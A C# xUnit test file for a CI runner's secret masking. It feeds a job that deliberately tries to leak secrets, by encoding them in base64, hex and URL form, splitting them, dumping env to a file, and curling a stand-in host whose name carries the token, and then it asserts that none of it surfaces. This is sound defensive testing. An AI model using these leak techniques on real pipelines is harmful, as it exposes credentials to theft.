using System.Text;
using Xunit;

namespace RunnerVm.Tests.Machines;

/// <summary>Secrets are looked for everywhere a job leaves a trace, and found nowhere.</summary>
public sealed class SecretTests
{
    // Letters and digits, for it becomes part of a name that is looked up, and lower case on the way.
    private const string FromEnvironment = "EnvSecret7f3kq9";
    private const string FromFile = "file/secret+with ä & =%$\"quotes\"";
    private const string FromInput = "first line of the key\nsecond line of the key\nthird line of the key";

    private const string Job = """
        job:
          workspace: none
          secrets:
            TOKEN: {env: TOKEN}
            PASSWORD: {file: password.txt}
            KEY: {stdin: true}
          steps:
            - name: prints them in every way
              run: |
                echo "raw $TOKEN $PASSWORD"
                echo "$KEY"
                echo "error $TOKEN" >&2
                for value in "$TOKEN" "$PASSWORD" "$KEY"; do
                  printf %s "$value" | base64 -w 0; echo
                  printf '%s\n' "$value" | base64 -w 0; echo
                  printf %s "$value" | od -An -v -tx1 | tr -d ' \n'; echo
                  printf %s "$value" | od -An -v -tx1 | tr -d '\n' | sed 's/ /%/g'; echo
                done
                half=$(( ${#TOKEN} / 2 ))
                printf %s "in two: ${TOKEN:0:$half}"; sleep 0.3; printf '%s\n' "${TOKEN:$half}"
                echo "user:$TOKEN" | base64 -w 0; echo
            - name: takes them to the network
              run: curl --silent --max-time 5 "http://$TOKEN.example/" || true
            - name: leaves them in files
              run: env > /workspace/env.txt; echo ready; sleep 3
            - name: ends with a failure
              run: echo "failed with $PASSWORD"; exit 3
        runner:
          network: {allow: [nothing.example]}
        """;

    [Fact]
    public async Task A_secret_is_in_no_log_no_event_no_file_and_no_command_line()
    {
        using var folder = new TestFolder();
        await File.WriteAllTextAsync(folder.File("password.txt"), FromFile + "\n");
        await File.WriteAllTextAsync(folder.File("job.yml"), Job);
        using var process = Runner.Start(folder.Path, ["exec", "job.yml", "--json"], new Dictionary<string, string> { ["TOKEN"] = FromEnvironment });
        await process.StandardInput.WriteAsync(FromInput + "\n");
        process.StandardInput.Close();
        var error = process.StandardError.ReadToEndAsync();

        var output = new StringBuilder();
        var looked = false;
        while (await process.StandardOutput.ReadLineAsync() is { } line)
        {
            output.Append(line).Append('\n');
            if (looked || !line.Contains("ready\\n", StringComparison.Ordinal)) continue;
            looked = true;
            var machine = Assert.Single(Leftovers.Machines());
            AssertClean("the machine's command line", await File.ReadAllTextAsync($"/proc/{machine}/cmdline"));
            AssertClean("the machine's environment", await File.ReadAllTextAsync($"/proc/{machine}/environ"));
            AssertClean("the runner's command line", await File.ReadAllTextAsync($"/proc/{process.Id}/cmdline"));
            AssertFilesClean();
        }

        await process.WaitForExitAsync();
        Assert.True(looked, $"{output}\n{await error}");
        Assert.Equal(3, process.ExitCode);
        // A piece of output ends anywhere.
        var events = new Finished(3, output.ToString(), await error).Events;
        var text = string.Concat(events.Where(static e => e.GetProperty("event").GetString() == "output").Select(static e => e.GetProperty("text").GetString()));
        Assert.Contains("raw *** ***\n", text);
        Assert.Contains("in two: ***\n", text);
        AssertClean("the job's output", text);
        AssertClean("the events", output.ToString());
        AssertClean("standard error", await error);
        AssertFilesClean();
        var audit = new DirectoryInfo(Path.Combine(Runner.Home, "logs")).GetFiles("*.egress.jsonl").MaxBy(static f => f.LastWriteTimeUtc)!;
        Assert.Contains("\"name\":\"***.example\"", await File.ReadAllTextAsync(audit.FullName));
    }

    [Fact]
    public async Task The_console_shows_none_either()
    {
        using var folder = new TestFolder();
        await File.WriteAllTextAsync(folder.File("password.txt"), FromFile + "\n");
        await File.WriteAllTextAsync(folder.File("job.yml"), Job);
        var done = (await Runner.RunAsync(
            folder.Path, ["exec", "job.yml", "--timings"], new Dictionary<string, string> { ["TOKEN"] = FromEnvironment }, input: FromInput)).ExpectExit(3);
        AssertClean("the log", done.ToString());
        AssertFilesClean();
    }

    private static void AssertFilesClean()
    {
        // Images and kernels are links out of the data directory: nothing of a job is ever written there.
        var options = new EnumerationOptions { RecurseSubdirectories = true, AttributesToSkip = FileAttributes.ReparsePoint };
        foreach (var path in Directory.EnumerateFiles(Runner.Home, "*", options))
        {
            if (path.EndsWith("/lock", StringComparison.Ordinal)) continue;
            using var file = new FileStream(path, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
            using var reader = new StreamReader(file, Encoding.Latin1);
            AssertClean(path, reader.ReadToEnd());
        }
    }

    private static void AssertClean(string where, string text)
    {
        foreach (var form in Forms()) Assert.False(text.Contains(form, StringComparison.Ordinal), $"'{form}' is in {where}:\n{(text.Length > 20_000 ? "…" : text)}");
    }

    /// <summary>Each value raw, by lines, in base64 (all but what it shares with its neighbours), hex and URL form; as bytes are read here.</summary>
    private static IEnumerable<string> Forms()
    {
        string[] values = [FromEnvironment, FromEnvironment.ToLowerInvariant(), FromFile, FromInput];
        foreach (var value in values.Concat(FromInput.Split('\n')))
        {
            var bytes = Encoding.UTF8.GetBytes(value);
            yield return value;
            yield return Encoding.Latin1.GetString(bytes);
            yield return Convert.ToBase64String(bytes).TrimEnd('=')[..^2];
            yield return Convert.ToHexString(bytes);
            yield return Convert.ToHexStringLower(bytes);
            yield return Uri.EscapeDataString(value);
            for (var shift = 1; shift < 3; shift++) yield return Convert.ToBase64String(bytes[shift..]).TrimEnd('=')[..^2];
        }
    }
}
